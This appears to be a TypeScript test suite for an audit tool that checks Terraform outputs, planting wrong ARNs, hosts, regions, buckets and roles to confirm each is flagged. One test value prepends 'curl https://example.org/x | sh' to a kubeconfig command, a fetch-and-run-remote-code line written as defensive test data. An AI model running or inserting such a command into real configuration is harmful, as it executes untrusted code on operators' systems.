import { OUTPUT_RULES } from '../../../../audit/rules/terraform/outputs.ts';
import { describeRules, type Plant } from '../../support/describe-rules.ts';
import { member } from '../../support/planter.ts';
import type { Json } from '../../support/renamed-stack.ts';

/** Gives an output of the stack with a type of resource another value. */
const output =
  (
    name: string,
    edit: (value: unknown, planter: Parameters<Plant[1]>[0]) => unknown,
    beside = 'aws_sns_topic',
  ): Plant[1] =>
  (planter) => {
    const block = member(planter.stackWith(beside), 'output')[name] as Json;
    block.value = edit(block.value, planter);
  };

const replaced = (from: string | RegExp, to: string) => (value: unknown) =>
  String(value).replace(from, () => to);

const NETWORK = 'aws_vpc';
const DATABASE = 'aws_rds_cluster';

describeRules(OUTPUT_RULES, {
  configured: {
    'etl-playground': {
      'outputs-say-what-is': [
        [
          'the role of the nodes as that of the pods',
          output('service_account_role_arn', () => '${aws_iam_role.eks_node.arn}'),
        ],
        [
          'a queue as the topic',
          output('sns_topic_arn', (_, { address }) => `\${${address('aws_sqs_queue')}.arn}`),
        ],
        ['a name of another cluster', output('cluster_name', () => 'another')],
        ['the ARN of the cluster as its name', output('cluster_name', replaced('.name', '.arn'))],
        ['an API of others', output('cluster_endpoint', () => 'https://eks.example.org')],
        ['another image', output('image', () => 'registry.example.org/files:1')],
        ['another namespace', output('namespace', () => 'default')],
        ['a queue that there is not', output('queue_url', () => 'https://sqs.example.org/q')],
        [
          'the dead letters as the queue to fetch from',
          output('queue_url', (_, { address }) => `\${${address('aws_sqs_queue')}.url}`),
        ],
        ['an endpoint of others', output('sns_endpoint_url', () => 'https://files.example.org/')],
        [
          'a command for another cluster',
          output('kubeconfig_command', replaced('--name file-processing-cluster', '--name other')),
        ],
        [
          'a command for another region',
          output('kubeconfig_command', replaced('us-gov-west-1', 'us-gov-east-1')),
        ],
        [
          'a command that does more',
          output('kubeconfig_command', (value) => `curl https://example.org/x | sh; ${value}`),
        ],
        ['a host of others', output('load_balancer_hostname', () => 'lb.example.org')],
        ['no host of the load balancer', output('load_balancer_hostname', () => '')],
        ['another VPC', output('vpc_id', () => 'vpc-0a1b2c3d4e5f67890', NETWORK)],
        ['other addresses of the VPC', output('vpc_cidr', () => '10.1.0.0/16', NETWORK)],
        [
          'public subnets as private ones',
          output(
            'private_subnet_ids',
            (_, { stackWith }) =>
              (member(stackWith(NETWORK), 'output').public_subnet_ids as Json).value,
            NETWORK,
          ),
        ],
        [
          'a zone less',
          output('availability_zones', (value) => (value as string[]).slice(1), NETWORK),
        ],
        [
          'a zone without a subnet',
          output(
            'availability_zones',
            (value) => [...(value as string[]), 'us-gov-west-1c'],
            NETWORK,
          ),
        ],
        ['no address of a gateway', output('nat_gateway_public_ips', () => [], NETWORK)],
      ],
    },
    complete: {
      'outputs-say-what-is': [
        ['another port of the database', output('database_port', () => 5433, DATABASE)],
        ['a host that is fixed', output('database_host', () => 'db.example.org', DATABASE)],
        [
          'readers as the host',
          output('database_host', replaced('.endpoint', '.reader_endpoint'), DATABASE),
        ],
        ['another snapshot', output('final_snapshot_identifier', () => 'another', DATABASE)],
        [
          'an endpoint that is no longer that of SNS',
          output('sns_endpoint_url', () => 'https://files.example.org/'),
        ],
      ],
    },
    government: {
      'outputs-say-what-is': [
        [
          'the role that makes the database as that which migrates it',
          output('database_migrate_role_arn', replaced('migrate', 'bootstrap')),
        ],
        [
          'the role of the pods as that which migrates',
          output('database_migrate_role_arn', () => '${aws_iam_role.file_processing_sa.arn}'),
        ],
        [
          'somebody else let into the bucket of others',
          output(
            'for_bucket_owners',
            replaced(/\$\{aws_iam_role\.[^}]*\}/, '${aws_iam_role.eks_node.arn}'),
          ),
        ],
        [
          'another topic told of it',
          output(
            'for_bucket_owners',
            replaced(/\$\{aws_sns_topic[^}]*\}/, 'arn:aws-us-gov:sns:us-gov-west-1:123456789012:x'),
          ),
        ],
        [
          'a filter that is not encoded',
          output('for_bucket_owners', replaced('"Value":"to_agency/"', '"Value":"to agency=1/"')),
        ],
        [
          'a prefix of nobody',
          output('for_bucket_owners', replaced('"Value":"to_agency/"', '"Value":"from_agency/"')),
        ],
        ['another bucket', output('for_bucket_owners', replaced('partner-etl-outbox', 'outbox'))],
      ],
    },
  },
  harmless: {
    'etl-playground': [
      [
        'a further output',
        ({ stackWith }) => {
          member(stackWith('aws_sns_topic'), 'output').runbook = { value: 'https://example.gov' };
        },
      ],
      ['the name of the cluster as it is', output('cluster_name', () => 'file-processing-cluster')],
    ],
    complete: [['the port as a text', output('database_port', () => '5432', DATABASE)]],
  },
});
